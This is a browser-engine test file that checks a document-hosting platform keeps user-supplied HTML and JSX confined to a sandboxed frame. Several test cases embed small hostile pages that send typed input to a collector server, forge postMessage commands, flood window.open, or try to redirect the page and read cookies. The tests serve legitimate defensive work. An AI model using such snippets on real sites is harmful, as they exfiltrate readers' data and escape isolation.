// Tests that a document stays confined to its frame: the same cases for each browser engine that readers have. Each
// engine runs a third of them, the first and others by the seed of the run; `TEST_SAMPLES=all bun run test
// e2e/isolation/` runs all.
import { afterAll, afterEach, beforeAll, describe, expect, setDefaultTimeout, test } from "bun:test";

import type { Engine, PressOptions } from "../harness/engines/engine.ts";
import { attemptNames, hostileDocument, leavingDocuments, startCollector } from "../harness/escape-attempts.ts";
import { inPageDocument, inPageOutcomes } from "../harness/in-page.ts";
import { createArtifact } from "../harness/people.ts";
import { hung } from "../harness/process.ts";
import { sampleWithFirst, testRandom } from "../harness/test-seed.ts";
import { testDesk } from "../harness/test-site.ts";

const page = (body: string) => `<!doctype html><title>Hostile</title><body style="height:600px">${body}`;
const escapeHtml = (text: string) => text.replaceAll("&", "&amp;").replaceAll('"', "&quot;");
const cardShown = `!document.querySelector("[data-part=request]").hidden`;
const cardText = `document.querySelector("[data-part=request]").innerText`;
const linkReady = `document.querySelector("[data-part=request-link]").hasAttribute("href")`;

/** Longer than any of these methods takes to send a request, for cases in which no event says that none was sent. */
const LISTENING_MS = 700;

/** The tests of one engine, which is opened for them. */
export function testIsolation(name: string, openEngine: () => Promise<Engine>): void {
  setDefaultTimeout(hung);
  describe(name, () => {
    const desk = testDesk();
    /** Started first, because the documents of the cases contain its URL. */
    const elsewhere = startCollector();
    afterAll(() => elsewhere.stop());
    /** Requests of opened pages, without the browser's own request for an icon. */
    const received = () => elsewhere.received.filter((line) => !line.endsWith("/favicon.ico"));
    const at = (path: string) => `${elsewhere.origin}/${path}`;
    const got = (path: string) => `GET ${at(path)}`;

    let engine: Engine;
    beforeAll(async () => {
      engine = await openEngine();
      console.log(`${engine.name} ${engine.version}`);
    });
    afterAll(() => engine?.close());
    afterEach(async () => {
      await engine.closeOthers();
      elsewhere.received.length = 0;
    });

    const cases: [what: string, run: () => Promise<void>][] = [];
    const add = (what: string, run: () => Promise<void>) => cases.push([what, run]);

    async function open(type: "md" | "html" | "jsx", content: string): Promise<string> {
      const { url } = await createArtifact(desk.owner, desk.projectSlug, { type, content });
      await engine.open(url);
      await engine.until("page", "document.readyState === 'complete'");
      await engine.until("frame", "document.readyState === 'complete'");
      return url;
    }

    async function untilReceived(expected: readonly string[]): Promise<void> {
      for (const ended = Date.now() + hung; received().length < expected.length && Date.now() < ended;)
        await Bun.sleep(50);
      await Bun.sleep(LISTENING_MS);
      expect(received()).toEqual([...expected]);
    }

    /**
     * Presses, and expects that the page shows the whole URL, that no request leaves, and then one request after the
     * reader confirms.
     */
    async function asksFirst(selector: string, path: string, options?: PressOptions): Promise<void> {
      await engine.press("frame", selector, options);
      await engine.until("page", cardShown);
      expect(await engine.evaluate("page", cardText)).toContain(at(path));
      await engine.until("page", linkReady);
      expect(received()).toEqual([]);
      expect(await engine.tabs()).toBe(1);
      await engine.press("page", "[data-part=request-link]");
      await untilReceived([got(path)]);
      await engine.untilTabs(2);
    }

    add(
      "a press anywhere that would send what the reader typed: the page shows the URL, and only the reader's press opens it",
      async () => {
        await open(
          "html",
          page(
            `<input id="typed"><script>document.body.onclick = () => {
              if (typed.value) window.open("${at("click-open?typed=")}" + encodeURIComponent(typed.value)); };</script>`,
          ),
        );
        await engine.press("frame", "#typed");
        await engine.type("secret");
        await engine.until("frame", "typed.value === 'secret'");
        await asksFirst("body", "click-open?typed=secret");
      },
    );

    const links: Readonly<Record<string, [body: string, path: string, options?: PressOptions]>> = {
      "a link": [`<a id="go" href="${at("link")}">Go</a>`, "link"],
      "a link with a target": [`<a id="go" target="_blank" href="${at("blank")}">Go</a>`, "blank"],
      "a link pressed with the control key": [
        `<a id="go" href="${at("control")}">Go</a>`,
        "control",
        { withControl: true },
      ],
      "a link pressed with the middle button": [
        `<a id="go" href="${at("middle")}">Go</a>`,
        "middle",
        { button: "middle" },
      ],
      "a link in an svg": [
        `<svg width="80" height="40"><a id="go" href="${at("svg")}"><rect width="80" height="40"/></a></svg>`,
        "svg",
      ],
      "a link whose event is stopped": [
        `<p onclick="event.stopPropagation()"><a id="go" href="${at("stopped")}">Go</a></p>`,
        "stopped",
      ],
      "a link that a script makes": [
        `<button id="go" onclick="Object.assign(document.createElement('a'), { href: '${at("made")}' }).click()">Go</button>`,
        "made",
      ],
      "a search form": [
        `<form target="_blank" action="${at("search")}"><input name="q" value="a b"><button id="go">Go</button></form>`,
        "search?q=a+b",
      ],
    };
    for (const [what, [body, path, options]] of Object.entries(links)) {
      add(`${what}: opens after the reader agrees`, async () => {
        await open("html", page(body));
        await asksFirst("#go", path, options);
      });
    }

    add("a link of a jsx document opens after the reader agrees", async () => {
      await open("jsx", `export default function App() { return <a id="go" href="${at("jsx")}">Go</a>; }`);
      await engine.until("frame", "document.querySelector('#go') !== null");
      await asksFirst("#go", "jsx");
    });

    add("a link that is reached by keyboard opens after the reader agrees", async () => {
      await open("html", page(`<input id="typed"><a id="go" href="${at("key")}">Go</a>`));
      await engine.press("frame", "#typed");
      await engine.evaluate("frame", "document.querySelector('#go').focus()");
      await engine.pressKey("Enter");
      await engine.until("page", cardShown);
      expect(await engine.evaluate("page", cardText)).toContain(at("key"));
      expect(received()).toEqual([]);
    });

    add("a document that prevents the default of a press keeps its link", async () => {
      await open(
        "html",
        page(
          `<a id="go" href="${at("own")}" onclick="event.stopPropagation(); event.preventDefault(); document.title = 'own'">Go</a>`,
        ),
      );
      await engine.press("frame", "#go");
      await engine.until("frame", "document.title === 'own'");
      await Bun.sleep(LISTENING_MS);
      expect(await engine.evaluate("page", cardShown)).toBe(false);
    });

    add("links to places in the document stay in the frame", async () => {
      await open("html", page(`<a id="go" href="#end">Go</a><p id="end" style="margin-top:3000px">End</p>`));
      await engine.press("frame", "#go");
      await engine.until("frame", "scrollY > 0");
      expect(await engine.evaluate("page", cardShown)).toBe(false);
    });

    add("a link to a document of this instance opens in the same tab", async () => {
      const { url } = await createArtifact(desk.owner, desk.projectSlug, { content: "# The other\n" });
      await open("html", page(`<a id="go" href="${new URL(url).pathname.split("/").at(-1)}">Go</a>`));
      await engine.press("frame", "#go");
      await engine.until("page", `location.href === ${JSON.stringify(url)}`);
      expect(await engine.tabs()).toBe(1);
    });

    add("a link of a markdown document opens at once", async () => {
      await open("md", `[Go](${at("markdown")})\n`);
      await engine.press("frame", "a[href*=markdown]");
      await untilReceived([got("markdown")]);
      await engine.untilTabs(2);
    });

    for (const type of ["html", "jsx"] as const) {
      add(`${type}: every attempt to read or to reach something is refused, and nothing leaves`, async () => {
        await engine.open(`${desk.instance.origin}/login`);
        await engine.evaluate("page", "void (document.cookie = 'session=kept', localStorage.setItem('kept', 'yes'))");
        const url = await open(type, hostileDocument(type, elsewhere.origin, desk.instance.origin));
        await engine.until("frame", "(document.querySelector('#outcome')?.textContent ?? '').endsWith('}')");
        const outcome = (await engine.evaluate("frame", "document.querySelector('#outcome').textContent")) as string;
        expect(JSON.parse(outcome)).toEqual(Object.fromEntries(attemptNames(type).map((one) => [one, "refused"])));
        await Bun.sleep(LISTENING_MS);
        expect(received()).toEqual([]);
        expect(await engine.evaluate("page", "location.href")).toBe(url);
        expect(await engine.evaluate("page", "[document.cookie.includes('session=kept'), localStorage.kept]")).toEqual([
          true,
          "yes",
        ]);
      });
    }

    for (const way of Object.keys(leavingDocuments(""))) {
      add(`a document cannot send its own frame elsewhere by ${way}`, async () => {
        const { url } = await createArtifact(desk.owner, desk.projectSlug, {
          type: "html",
          content: leavingDocuments(elsewhere.origin)[way] ?? "",
        });
        await engine.open(url);
        await Bun.sleep(LISTENING_MS);
        expect(received()).toEqual([]);
        expect(await engine.evaluate("page", "location.href")).toBe(url);
        expect(await engine.tabs()).toBe(1);
      });
    }

    add("messages without a press of the reader, and from other windows, are ignored", async () => {
      const posted = `for (const message of [{ type: 'plinth:open', url: '${at("forged")}' }, { type: 'plinth:copy', text: 'x' },
        { type: 'plinth:save', name: 'x', content: new Blob(['x']) }, { type: 'plinth:open', url: '/a/b/c' }])`;
      const inner = `<script>const post = (then) => { ${posted} top.postMessage(message, '*'); parent.postMessage(then, '*'); };
        post('posted'); onclick = () => post('again');</script>`;
      const address = await open(
        "html",
        page(`<script>${posted} parent.postMessage(message, '*');
          addEventListener('message', ({ data }) => { document.title = data; });</script>
          <iframe id="go" srcdoc="${escapeHtml(inner)}"></iframe>`),
      );
      await engine.until("frame", "document.title === 'posted'");
      await Bun.sleep(LISTENING_MS);
      expect(await engine.evaluate("page", cardShown)).toBe(false);
      await engine.press("frame", "#go");
      await engine.until("frame", "document.title === 'again'");
      await Bun.sleep(LISTENING_MS);
      expect(await engine.evaluate("page", cardShown)).toBe(false);
      expect(await engine.evaluate("page", "location.href")).toBe(address);
      expect(received()).toEqual([]);
    });

    add("a document asks one thing at a time, and not again by the press that refused it", async () => {
      await open(
        "html",
        page(`<button id="go">Go</button><script>
          go.onclick = () => { for (const n of [1, 2, 3]) open("${at("flood")}" + n);
            setInterval(() => { open("${at("again")}"); document.title = "asked"; }, 100); };</script>`),
      );
      await engine.press("frame", "#go");
      await engine.until("page", linkReady);
      expect(await engine.evaluate("page", cardText)).toContain(at("flood1"));
      await engine.press("page", "[data-part=request-cancel]");
      await Bun.sleep(LISTENING_MS);
      expect(await engine.evaluate("page", cardShown)).toBe(false);
      expect(received()).toEqual([]);
    });

    add("the card cannot be answered at the moment it appears, and takes no focus", async () => {
      await open("html", page(`<a id="go" href="${at("arming")}">Go</a>`));
      await engine.evaluate(
        "page",
        `void (new MutationObserver(() => { window.first ??= ${linkReady}; }).observe(document.querySelector("[data-part=request]"), { attributes: true }))`,
      );
      await engine.press("frame", "#go");
      await engine.until("page", linkReady);
      expect(await engine.evaluate("page", "window.first")).toBe(false);
      expect(await engine.evaluate("page", "document.activeElement.localName")).toBe("iframe");
    });

    for (const [what, offer] of Object.entries({
      "a link in the document": `document.body.append(a); a.click(); a.remove(); URL.revokeObjectURL(a.href)`,
      "a link outside the document": `a.click()`,
      "an event that a script makes": `a.dispatchEvent(new MouseEvent("click"))`,
    })) {
      add(`a file offered by ${what} is saved after the reader agrees`, async () => {
        await open(
          "html",
          page(`<button id="go">Go</button><script>go.onclick = () => { const a = document.createElement("a");
            a.download = "report.csv"; a.href = URL.createObjectURL(new Blob(["a,b,c"], { type: "text/csv" })); ${offer}; };</script>`),
        );
        await engine.evaluate(
          "page",
          `void (HTMLAnchorElement.prototype.click = function () {
            window.saved = [this.download, this.href.startsWith("blob:" + location.origin)]; })`,
        );
        await engine.press("frame", "#go");
        await engine.until("page", cardShown);
        expect(await engine.evaluate("page", cardText)).toContain("Save report.csv, 5 B?");
        expect(await engine.evaluate("page", "window.saved === undefined")).toBe(true);
        await engine.until("page", `!document.querySelector("[data-part=request-accept]").disabled`);
        await engine.press("page", "[data-part=request-accept]");
        await engine.until("page", "window.saved !== undefined");
        expect(await engine.evaluate("page", "window.saved")).toEqual(["report.csv", true]);
      });
    }

    add("a text that a document copies reaches the clipboard, and the page says so", async () => {
      await open(
        "html",
        page(
          `<button id="go" onclick="navigator.clipboard.writeText('copied').then(() => { document.title = 'done' })">Go</button>`,
        ),
      );
      await engine.evaluate("page", `void (navigator.clipboard.writeText = async (text) => { window.copied = text; })`);
      await engine.press("frame", "#go");
      await engine.until("frame", "document.title === 'done'");
      expect(await engine.evaluate("page", cardText)).toContain("Copied 6 characters");
      expect(await engine.evaluate("page", "window.copied")).toBe("copied");
    });

    // A frame that the document writes has no guard, and reports the press.
    const unguarded = (body: string) => {
      const inner = `<body style="margin:0" onmousedown="parent.postMessage('pressed', '*')">${body}`;
      return page(
        `<iframe id="go" style="border:0;width:200px;height:100px" srcdoc="${escapeHtml(inner)}"></iframe>
          <script>addEventListener("message", ({ data }) => { document.title = data; });</script>`,
      );
    };
    const bareLink = `<a style="display:block;height:100px" target="_blank" href="${at("bare")}">Go</a>`;
    const bare: Readonly<Record<string, [body: string, options?: PressOptions]>> = {
      "window.open": [`<p style="margin:0;height:100px" onclick="window.open('${at("bare")}')">Go</p>`],
      "window.open without an opener": [
        `<p style="margin:0;height:100px" onclick="window.open('${at("bare")}', '_blank', 'noopener')">Go</p>`,
      ],
      "a link": [bareLink],
      "a link to the whole tab": [bareLink.replace("_blank", "_top")],
      // Last: the empty tab that Chromium may open comes late, and would be counted with the next test.
      "a link and the middle button": [bareLink, { button: "middle" }],
      "a link and the control key": [bareLink, { withControl: true }],
    };
    for (const [what, [body, options]] of Object.entries(bare)) {
      add(`${what} in a frame without the guard: what opens a tab`, async () => {
        const url = await open("html", unguarded(body));
        await engine.press("frame", "#go", options);
        await engine.until("frame", "document.title === 'pressed'");
        await Bun.sleep(LISTENING_MS);
        // Firefox opens a tab despite the sandbox: SECURITY.md says so, and this test notices when it stops. Chromium
        // sometimes opens an empty one for the control key, so its tabs are not counted.
        expect(received()).toEqual(name === "Firefox" && options !== undefined ? [got("bare")] : []);
        if (options === undefined) expect(await engine.tabs()).toBe(1);
        expect(await engine.evaluate("page", "location.href")).toBe(url);
      });
    }

    for (const type of ["html", "jsx"] as const) {
      add(
        `${type}: what is in the page already can be fetched and run in workers, which reach nothing elsewhere`,
        async () => {
          await open(type, inPageDocument(type, elsewhere.origin));
          await engine.until("frame", "(document.querySelector('#outcome')?.textContent ?? '').endsWith('}')");
          const outcome = (await engine.evaluate("frame", "document.querySelector('#outcome').textContent")) as string;
          expect(JSON.parse(outcome)).toEqual(inPageOutcomes);
          await Bun.sleep(LISTENING_MS);
          expect(received()).toEqual([]);
        },
      );
    }

    for (const [what, ask, isGiven] of [
      ["the pointer", "go.requestPointerLock()", "document.pointerLockElement === go"],
      ["the whole screen", "go.requestFullscreen()", "document.fullscreenElement === go"],
    ] as const) {
      add(`a document gets ${what} by the reader's press, and not without one`, async () => {
        await open(
          "html",
          page(`<button id="go">Go</button><script>
            const ask = (name) => Promise.resolve().then(() => ${ask}).then(() => name + " given", () => name + " refused");
            ask("first").then((said) => { document.title = said; });
            go.onclick = () => { ask("pressed").then((said) => { document.title = said; }); };</script>`),
        );
        await engine.until("frame", "document.title === 'first refused'");
        await engine.press("frame", "#go");
        await engine.until("frame", isGiven);
        expect(await engine.evaluate("page", "location.href.includes('/_content/')")).toBe(false);
        await engine.evaluate(
          "frame",
          "void (document.exitPointerLock(), document.fullscreenElement && document.exitFullscreen())",
        );
      });
    }

    add("a document gets keys before the first press, but not while something of the page has the focus", async () => {
      const keys = page(
        `<script>let keys = 0; addEventListener("keydown", () => { document.title = "keys " + ++keys; });</script>`,
      );
      await open("html", keys);
      await engine.until("page", "document.activeElement.localName === 'iframe'");
      await engine.pressKey("Enter");
      await engine.until("frame", "document.title === 'keys 1'");
      await engine.evaluate("page", "void document.querySelector('a[href]').focus()");
      await engine.evaluate("frame", "void location.reload()");
      await engine.until("frame", "document.title === 'Hostile' && document.readyState === 'complete'");
      await Bun.sleep(LISTENING_MS);
      expect(await engine.evaluate("page", "document.activeElement.localName")).toBe("a");
    });

    for (const [what, run] of sampleWithFirst(cases, Math.ceil(cases.length / 3), testRandom("isolation", name)))
      test(what, run);
  });
}
